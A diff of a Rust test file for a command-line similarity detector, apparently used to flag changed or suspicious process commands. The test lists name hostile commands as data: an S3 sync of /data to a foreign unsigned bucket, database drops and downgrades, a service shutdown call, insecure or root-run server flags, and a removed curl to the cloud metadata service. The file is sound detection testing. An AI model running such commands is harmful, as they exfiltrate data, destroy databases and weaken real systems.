@@ -8,7 +8,7 @@ use std::path::{Path, PathBuf};
 use std::sync::{Arc, OnceLock};
 
 use kestrel_embed::{
-    arg_similarity, calibration_pairs, cosine, default_threshold, holdout_pairs, normalize,
+    arg_similarity, cosine, default_threshold, holdout2_pairs, normalize, tuning_pairs,
     ArgComparison, ArgEmbedder, ArgShape, CacheOptions, EmbedConfig, Embedder, LabelledPair,
     OnnxEmbedder, Pooling, DEFAULT_MODEL_ID,
 };
@@ -72,7 +72,7 @@ fn explain(model: &OnnxEmbedder, p: &LabelledPair) -> String {
 }
 
 /// Checks that every pair of `pairs` falls on its labelled side of the shipped
-/// threshold, except those whose first command line starts with one of
+/// threshold, except those whose second command line starts with one of
 /// `known_errors` (which must still be on the wrong side, so that the list
 /// stays true), and that every correctly classified pair is at least `margin`
 /// from the threshold.
@@ -83,7 +83,7 @@ fn assert_sides(model: &OnnxEmbedder, pairs: &[LabelledPair], known_errors: &[&s
     for p in pairs {
         let s = similarity(model, &p.a, &p.b);
         let wrong = (s >= threshold) != p.same;
-        let known = known_errors.iter().any(|k| p.a.starts_with(k) && !p.same);
+        let known = known_errors.iter().any(|k| p.b.starts_with(k));
         match (wrong, known) {
             (true, false) => unexpected.push(explain(model, p)),
             (false, true) => fixed.push(explain(model, p)),
@@ -135,37 +135,44 @@ fn the_seed_java_timestamp_pair_matches_and_the_renamed_miner_does_not() {
     assert!((0.85..0.91).contains(&raw), "raw java/java' {raw}");
 }
 
-/// Different-behaviour pairs of the tuning set that the argument similarity
-/// puts above the threshold (documented in docs/embeddings.md): a debug
-/// agent added to the same jar, Celery `beat` instead of `worker`, and the
-/// metadata service's credentials path instead of the instance id. Every
-/// same-behaviour pair matches.
-const KNOWN_MISSED: [&str; 3] = [
-    "java -XX:+UseG1GC -Dserver.port=8080 -jar /app/app.jar",
-    "python -m celery -A proj worker --loglevel=info -c 4",
-    "curl -s http://169.254.169.254/latest/meta-data/instance-id",
-];
+/// The one tuning pair (of 163: `pairs.tsv` and `holdout.tsv`) on the wrong
+/// side of the threshold (docs/embeddings.md): Celery `beat` instead of
+/// `worker`, one changed subcommand word, lexically like `pool www` →
+/// `pool api` of a same-behaviour pair. Every other pair, same or different,
+/// is on its side with the margin below.
+const KNOWN_MISSED: [&str; 1] = ["python -m celery -A proj beat --loglevel=info"];
 
 #[test]
-fn the_calibration_set_falls_on_the_documented_sides_of_the_threshold() {
+fn the_tuning_set_falls_on_the_documented_sides_of_the_threshold() {
     let Some(model) = model() else { return };
-    let pairs = calibration_pairs().expect("parses");
-    // Measured: 0.079 (the threshold is the middle of that gap).
-    assert_sides(&model, &pairs, &KNOWN_MISSED, 0.07);
+    let pairs = tuning_pairs().expect("parses");
+    assert_eq!(pairs.len(), 163);
+    // Measured: 0.071 (the threshold is the middle of that gap).
+    assert_sides(&model, &pairs, &KNOWN_MISSED, 0.06);
 }
 
-/// Different-behaviour pairs of the held-out set above the threshold
-/// (measured once the measure and threshold were fixed; docs/embeddings.md).
-const HELD_OUT_MISSED: [&str; 3] = [
-    "mysql -h db -u app -e 'SELECT 1'",
-    "php /var/www/html/index.php",
-    "sh -c 'chmod +x /app/bin/start.sh && /app/bin/start.sh'",
+/// Pairs of the held-out set (`holdout2.tsv`) on the wrong side of the
+/// threshold, measured once when the measure and threshold were fixed
+/// (docs/embeddings.md): six changed subcommands or switches (`downgrade`,
+/// `config set registry`, `actuator/shutdown`, `--api.insecure`, `db:drop`,
+/// `jmxremote` inside a dotted property name, which the sensitive-word cue
+/// does not split), a bucket swapped for an unsigned foreign one, and one
+/// same-behaviour pair written with long instead of short flags.
+const HELD_OUT_MISSED: [&str; 8] = [
+    "java -jar /app/billing.jar --server.port=8080 -Dcom.sun.management.jmxremote.port=9010",
+    "python3 -m alembic downgrade base",
+    "node /usr/local/bin/npm config set registry",
+    "curl -s -X POST http://localhost:8080/actuator/shutdown",
+    "traefik --api.insecure=true",
+    "bundle exec rake db:drop",
+    "php-fpm --nodaemonize --allow-to-run-as-root",
+    "aws s3 sync /data s3://drop-198-51-100-5/x/ --no-sign-request",
 ];
 
 #[test]
 fn the_held_out_set_falls_on_the_documented_sides_of_the_tuned_threshold() {
     let Some(model) = model() else { return };
-    let pairs = holdout_pairs().expect("parses");
+    let pairs = holdout2_pairs().expect("parses");
     // Measured: 0.012 (nothing was tuned on this set).
     assert_sides(&model, &pairs, &HELD_OUT_MISSED, 0.01);
 }
